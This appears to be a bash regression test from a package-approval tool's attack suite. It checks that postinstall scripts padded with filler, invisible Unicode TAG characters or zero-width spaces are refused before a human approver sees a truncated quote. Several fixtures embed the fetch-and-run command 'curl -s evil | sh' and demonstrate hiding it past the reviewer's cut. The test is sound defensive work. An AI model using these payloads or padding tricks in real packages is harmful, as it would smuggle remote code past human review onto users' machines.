#!/bin/bash
# Guarantee attacked: the approver reads every new or changed install-time script whole
# before passing it. The summary quotes such a script up to a bound (600 bytes,
# NS_INSTALL_QUOTE_MAX); the red team padded a postinstall with dull visible text (30
# " --define=FEATURE_nnn=1") or with invisible TAG characters (U+E0020..U+E007E) so
# that "; payload" fell past the cut, and the approver saw "node build.js ...". The
# checks now refuse such a script (install.length) before the approver is prompted,
# naming its length and the bound; invisible characters are shown escaped and counted.
ATTACK_MODE=local
. "$SRCDIR/tests/attacks/harness.sh"

write_conf

stage_as_stager() { # NAME SCRIPT -> ID: NAME@1.0.0 with postinstall SCRIPT, staged by $ST
	local json
	json=$(python3 -c 'import json, sys; print(json.dumps(sys.argv[1], ensure_ascii=False))' "$2")
	pack_pkg "$1" 1.0.0 ',"scripts":{"postinstall":'"$json"'}'
	expect_status 0 as_user "$ST" "$NR" stage "$TGZ"
	ID=$(printf '%s\n' "$OUT" | grep -E '^[0-9a-f-]{36}$' | head -1)
	[ -n "$ID" ] || fail "stage printed no id"
}
tags() { # N: N TAG characters, cycling through U+E0020..U+E007E as the red team's did
	python3 -c 'import sys; sys.stdout.write("".join(chr(0xE0020 + i % 0x5f) for i in range(int(sys.argv[1]))))' "$1"
}

# 1. A 700-byte postinstall: dull padding, then the payload past byte 600.
S="node build.js"
while [ ${#S} -lt 681 ]; do S+=$(printf ' --define=FEATURE_%03d=1' $(( ${#S} / 23 ))); done
S=${S:0:681}"; curl -s evil | sh"
[ "$(printf '%s' "$S" | wc -c)" = 700 ] || fail "the padded script is $(printf '%s' "$S" | wc -c) bytes, not 700"
NAME=atk-long-$SUFFIX
stage_as_stager "$NAME" "$S"
refused_before_prompt "$NAME" "with a 700-byte postinstall quoted only up to byte 600" \
	"install-time script 'postinstall' is 700 bytes, longer than the 600 bytes the approver's summary quotes whole"
contains "$(cat "$T/approve-$NAME.out")" "FAIL install.length"
pass "a 700-byte postinstall (payload after byte 600) is refused before the prompt, its length named"

# 2. The red team's TAG padding: 300 invisible characters (1200 bytes) before the payload.
NAME=atk-long-tag-$SUFFIX
stage_as_stager "$NAME" "node build.js$(tags 300)||(curl -s evil|sh)"
refused_before_prompt "$NAME" "with its payload behind 300 TAG characters" \
	"install-time script 'postinstall' is 1232 bytes"
pass "a postinstall with its payload behind 300 TAG characters is refused before the prompt"

# 2b. Within 600 bytes, but not once escaped: "x" and U+200B alternating (4 bytes,
# shown as 7), so the quote would be cut although the script is short.
NAME=atk-long-esc-$SUFFIX
stage_as_stager "$NAME" "node build.js$(python3 -c 'import sys; sys.stdout.write("x\u200b" * 140)')||(curl -s evil|sh)"
refused_before_prompt "$NAME" "with its payload past the bound once escaped" \
	"install-time script 'postinstall' is 592 bytes, 1012 once escaped, longer than the 600 bytes"
pass "a 592-byte postinstall that is 1012 bytes once escaped is refused before the prompt"

# 3. Fewer TAG characters fit the bound: quoted in sight, the run counted and escaped.
NAME=atk-short-tag-$SUFFIX
stage_as_stager "$NAME" "node build.js$(tags 100)||(curl -s evil|sh)"
approve_as_a1 0 "$ID"
printf '%s\n' "$OUT" | grep -qFx -- '  | node build.js<100 invisible \ue0020-\ue007e>||(curl -s evil|sh)' ||
	attack_succeeded "100 TAG characters were not shown escaped before the payload"
pass "100 TAG characters before a payload are quoted as <100 invisible \\ue0020-\\ue007e>"

# 4. A 500-byte postinstall is within the bound: quoted whole, and goes live.
S="node build.js"
while [ ${#S} -lt 481 ]; do S+=$(printf ' --define=FEATURE_%03d=1' $(( ${#S} / 23 ))); done
S=${S:0:481}"; echo built-it-all"
[ ${#S} = 500 ] || fail "the script is ${#S} bytes, not 500"
NAME=atk-ok-$SUFFIX
stage_as_stager "$NAME" "$S"
approve_as_a1 0 "$ID"
contains "$OUT" "  install-time script postinstall (no previous, 500 bytes):"
printf '%s\n' "$OUT" | grep -qFx -- "  | $S" || fail "the 500-byte postinstall is not quoted whole"
contains "$OUT" "is live"
pass "a 500-byte postinstall is quoted whole and can be approved"

# 5. More new install-time scripts than the summary quotes (4): under a scope that
# allows install scripts, its own three and two bundled packages' would have been
# shown as "1 more (in the check report)" and approved unread. Refused (install.count).
NAME=atk-many-$SUFFIX
write_conf "$(printf '[scope %s]\napprovers = %s %s\ninstall_scripts = allow' "$NAME" "$A1" "$A2")"
D="$T/many"
mkdir -p "$D/package/node_modules/a" "$D/package/node_modules/b"
printf '{"name":"%s","version":"1.0.0","main":"index.js","license":"MIT","dependencies":{"a":"1.0.0","b":"1.0.0"},"bundleDependencies":["a","b"],"scripts":{"preinstall":"echo one","install":"echo two","postinstall":"echo three"}}\n' \
	"$NAME" > "$D/package/package.json"
echo 'module.exports = 1;' > "$D/package/index.js"
echo '{"name":"a","version":"1.0.0","scripts":{"postinstall":"echo four"}}' > "$D/package/node_modules/a/package.json"
echo '{"name":"b","version":"1.0.0","scripts":{"postinstall":"curl -s evil | sh"}}' > "$D/package/node_modules/b/package.json"
shrinkwrap_bundling "$D" "$NAME" node_modules/a node_modules/b
tar -czf "$T/many.tgz" --owner=0 --group=0 --numeric-owner -C "$D" package || fail "tar"
chmod 0644 "$T/many.tgz"
expect_status 0 as_user "$ST" "$NR" stage "$T/many.tgz"
ID=$(printf '%s\n' "$OUT" | grep -E '^[0-9a-f-]{36}$' | head -1)
refused_before_prompt "$NAME" "with a fifth new install-time script the summary does not quote" \
	"more than 4 new or changed install-time scripts"
contains "$(cat "$T/approve-$NAME.out")" "FAIL install.count"
write_conf
pass "five new install-time scripts (more than the summary quotes) are refused before the prompt"
